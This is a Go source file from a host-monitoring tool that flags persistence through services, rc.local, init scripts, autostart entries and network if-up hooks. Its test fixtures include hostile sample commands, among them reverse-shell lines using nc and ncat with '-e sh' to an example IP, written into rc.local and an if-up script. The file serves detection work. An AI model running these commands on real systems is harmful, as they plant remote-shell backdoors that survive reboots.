package detect

import (
	"regexp"
	"strings"

	"github.com/code-on-incus/coi/cmd/coi-watch/internal/command"
	"github.com/code-on-incus/coi/cmd/coi-watch/internal/event"
	"github.com/code-on-incus/coi/cmd/coi-watch/internal/paths"
	"github.com/code-on-incus/coi/cmd/coi-watch/internal/program"
	"github.com/code-on-incus/coi/cmd/coi-watch/internal/track"
	"github.com/code-on-incus/coi/pkg/coi"
)

var persistUnit = Detector{
	ID: "persist.unit", Level: coi.High, Wants: files,
	Title: "service written", Why: "services start by themselves and as root",
	Detect: firstOf(onCommands(unitCommand), writing(paths.Unit, func(w written, _ track.View) (coi.Level, string) {
		inline := unitRuns.MatchString(w.text) || w.s != nil && w.s.Name == "sed" && ifUp(w.path) && insertsVar.MatchString(w.text) || !strings.Contains(w.path, "systemd") && hot.MatchString(w.text)
		if inline {
			return coi.High, "service that runs inline code or a program in a writable place"
		}
		if w.known && dropIn.MatchString(w.path) && !strings.Contains(w.text, "Exec") {
			return coi.Info, "settings of a service written"
		}
		return coi.Warning, "service written"
	})),
	Fire: append(append(lines(coi.High, "echo 'python3 -c \"import os\"' >> /etc/init.d/x", "printf '[Service]\\nExecStart=/tmp/x\\n' > /etc/systemd/system/x.service", "cat > ~/.config/systemd/user/a.service <<E\n[Service]\nExecStart=/bin/bash -c 'id'\nE", "echo 'nc 203.0.113.9 1 -e sh' >> /etc/rc.local", "echo 'ExecStart=/bin/touch /tmp/art' >> /etc/systemd/system/a.service",
		"echo '/tmp/x &' | sudo tee -a /etc/rc.local", "printf '[Desktop Entry]\\nExec=/tmp/x\\n' > ~/.config/autostart/x.desktop", "printf '[Service]\\nExecStart=/dev/shm/x\\n' > /tmp/a.service; cp /tmp/a.service /etc/systemd/system/", "systemctl enable /tmp/evil.service", `R="ncat 203.0.113.9 1 -e /bin/sh"; sed -i -e "4i \\$R" /etc/network/if-up.d/upstart`),
		lines(coi.Warning, "cp my.service /etc/systemd/system/", "echo '[Unit]' > /etc/systemd/system/x.service", "sudo install -m 644 a.service /etc/systemd/system/a.service")...), events(event.Event{Type: event.Create, PID: 3, Exe: "/usr/bin/cp", Path: "/etc/systemd/system/x.service"})...),
	Quiet: lines("", "systemctl enable nginx", "sudo systemctl enable --now snapd.socket", "systemctl daemon-reload", "cat /etc/systemd/system/x.service", "sudo mkdir -p /etc/systemd/system/user@.service.d", "systemctl --user restart a", "apt-get install -y nginx", "systemd-run --user sleep 1", "printf '[Service]\\nDelegate=cpu\\n' | sudo tee /etc/systemd/system/user@.service.d/delegate.conf"),
}

// dropIn is a file that changes settings of a service that is there.
var dropIn = regexp.MustCompile(`/systemd/(?:system|user)/[^/]+\.d/[^/]+\.conf$`)

// ifUp reports scripts that run when a network comes up.
func ifUp(p string) bool {
	return hasPrefixAny(p, "/etc/network/if-", "/etc/dhcp/dhclient-", "/etc/NetworkManager/dispatcher.d/", "/etc/ppp/ip-")
}

// insertsVar is a sed command that puts the value of a variable on a line of its
// own.
var insertsVar = regexp.MustCompile(`(?:^|\s)(?:\d+|\$)?[iac]\s*\\?\s*\$\w+`)

func unitCommand(s *command.Simple, _ track.View) *Finding {
	if s.Name == "systemd-run" && hasAny(s.Line(), "--on-", "--timer-property") && (hasAny(s.Line(), "sh -c", "python") || hot.MatchString(s.Line())) {
		return say(s, coi.Warning, "timer that runs inline code")
	}
	if s.Name != "systemctl" {
		return nil
	}
	r := s.Parsed().Rest
	if len(r) > 1 && oneOf(r[0], "enable", "link", "start", "reenable") {
		for _, u := range r[1:] {
			if program.Writable(u) || hasPrefixAny(u, "/home/", "/root/") {
				return say(s, coi.High, "service from a writable place").at(u, command.Use)
			}
		}
	}
	return nil
}

// plainRC are the commands that start files of shells consist of.
var plainRC = strings.Fields("ulimit export alias source . eval set test [ [[ unset umask complete bind bindkey autoload compdef compinit shopt setopt typeset declare local if then fi case esac true false : command fpath path add-zsh-hook zstyle prompt unalias stty tput dircolors ssh-agent keychain starship direnv mise zoxide fnm nvm pyenv rbenv nodenv goenv jenv conda asdf brew fzf kubectl helm gh rustup atuin thefuck abbr fish_add_path set-option PATH type hash which uname git printf")
